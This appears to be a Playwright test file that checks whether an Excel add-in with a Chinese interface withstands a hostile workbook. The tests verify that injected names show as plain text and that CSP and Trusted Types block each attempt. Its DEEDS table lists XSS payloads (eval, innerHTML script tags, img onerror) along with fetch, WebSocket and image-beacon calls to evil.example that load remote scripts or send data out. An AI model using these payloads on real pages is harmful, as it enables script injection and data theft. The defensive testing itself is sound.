import type { Browser, Page } from "playwright-core";
import { hostScript, openAddin } from "./addin-host/open-addin";
import { launchBrowser } from "./launch";
import { builtFolder, type WatchedPage } from "./pages";
import { serveFolder, type ServedFolder } from "./serve";

declare global {
  interface Window {
    violations: string[];
    pwned: unknown;
    selectCell(sheet: string, address: string): void;
  }
}

let browser: Browser;
let served: ServedFolder;
let host: string;
let page: Page;
let troubles: readonly string[];
const requests: string[] = [];

beforeAll(async () => {
  [browser, served, host] = await Promise.all([
    launchBrowser(),
    serveFolder(builtFolder("addin")),
    hostScript("hostile-host-in-page.ts"),
  ]);
  ({ page, troubles } = await openAddin(browser, served.url, host));
  page.on("request", (request) => requests.push(request.url()));
  await page.getByRole("button", { name: "一键排名" }).click();
  await page.getByRole("table", { name: "排名 1-6月" }).waitFor();
});

afterAll(async () => {
  await browser.close();
  await served.close();
});

const violations = (): Promise<string[]> => page.evaluate(() => window.violations);

test("in use with a hostile workbook nothing runs, nothing is violated, nothing leaves the page's origin", async () => {
  const towns = page.locator("tbody button[lang]");
  expect(await towns.count()).toBe(24);
  for (let town = 0; town < 24; town += 8) {
    await towns.nth(town).click();
    for (const code of ["1.2", "5", "9"]) {
      await page.getByRole("button", { name: new RegExp(`^▸ ?${code} |^${code} `) }).click();
    }
  }
  await page.evaluate(() => window.selectCell("依据 1-6月", "C6"));
  await page.getByRole("region", { name: "单元格出处" }).getByText("条款").waitFor();
  await page.getByText("本期决定", { exact: false }).first().click();
  const revocable = page.getByRole("button", { name: /^撤销/ });
  expect(await revocable.count()).toBe(250);
  await page.getByRole("button", { name: "＋新增" }).click();
  await page.getByRole("dialog").waitFor();
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  expect(await violations()).toEqual([]);
  expect(troubles).toEqual([]);
  expect(requests.filter((url) => !url.startsWith(served.url))).toEqual([]);
  // The host logs, as Excel does, so Office.js fetches a script more and parses the licence of the add-in.
  expect(
    await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name)),
  ).toContain(`${served.url}office-js/telemetry/oteljs_agave.js`);
});

test("names are shown as the text that they are", async () => {
  const shown = await page.locator("tbody button[lang]").allInnerTexts();
  expect(shown.some((name) => name.includes("<script>window.pwned=1</script>"))).toBe(true);
  const foreign = await page.evaluate(
    () =>
      document.querySelectorAll(
        "#pane script, #pane img, #pane iframe, #pane [onerror], #pane a[href]",
      ).length,
  );
  expect(foreign).toBe(0);
});

/** Deeds of a script that would have come in, and what refuses them. */
const DEEDS: readonly (readonly [string, string, RegExp])[] = [
  ["eval", "(0, eval)('window.pwned = 1')", /require-trusted-types-for|script-src/],
  [
    "a function made of text",
    "new Function('window.pwned = 1')()",
    /require-trusted-types-for|script-src/,
  ],
  [
    "text as HTML",
    "document.body.insertAdjacentHTML('beforeend', '<script>window.pwned=1</script>')",
    /require-trusted-types-for/,
  ],
  [
    "text through a parser",
    "document.body.append(new DOMParser().parseFromString('<img src=x onerror=window.pwned=1>', 'text/html').body)",
    /require-trusted-types-for/,
  ],
  [
    "a handler in what looks like a licence",
    "new DOMParser().parseFromString('<r><t onclick=\"window.pwned=1\"/></r>', 'text/xml')",
    /require-trusted-types-for/,
  ],
  ["a licence as HTML", "document.body.innerHTML = '<r></r>'", /require-trusted-types-for/],
  [
    "an inline script",
    "document.head.append(Object.assign(document.createElement('script'), { text: 'window.pwned = 1' }))",
    /require-trusted-types-for/,
  ],
  [
    "an inline handler",
    "document.body.setAttribute('onclick', 'window.pwned = 1')",
    /require-trusted-types-for/,
  ],
  [
    "a script of another server",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    /require-trusted-types-for/,
  ],
  ["a module of another server", "import('https://evil.example/x.js')", /script-src-elem/],
  [
    "a second policy",
    "trustedTypes.createPolicy('evil', { createHTML: (x) => x })",
    /trusted-types/,
  ],
  ["sending", "fetch('https://evil.example/', { method: 'POST', body: 'x' })", /connect-src/],
  ["a beacon by a socket", "new WebSocket('wss://evil.example/')", /connect-src/],
  ["a beacon by a picture", "new Image().src = 'https://evil.example/x.png'", /img-src/],
];

describe("of a script that would have come in", () => {
  let refusing: WatchedPage;
  beforeAll(async () => {
    refusing = await openAddin(browser, served.url, host);
  });
  afterAll(() => refusing.page.context().close());

  test.each(DEEDS)("%s is refused, and said", async (_what, deed, directive) => {
    const before = refusing.troubles.length;
    // Each in a document of its own.
    await refusing.page.reload();
    await refusing.page.getByRole("button", { name: "一键排名" }).waitFor();
    expect(await refusing.page.evaluate(() => window.violations)).toEqual([]);
    // Later, from the page itself: what the test's own tool runs is not under the policy.
    await refusing.page.evaluate(`void setTimeout(() => { ${deed} })`);
    await refusing.page.waitForFunction(() => window.violations.length > 0);
    expect((await refusing.page.evaluate(() => window.violations)).join()).toMatch(directive);
    expect(await refusing.page.evaluate(() => window.pwned)).toBeUndefined();
    const requested = refusing.troubles.slice(before);
    expect(requested.filter((trouble) => trouble.startsWith("request to"))).toEqual([]);
  });
});
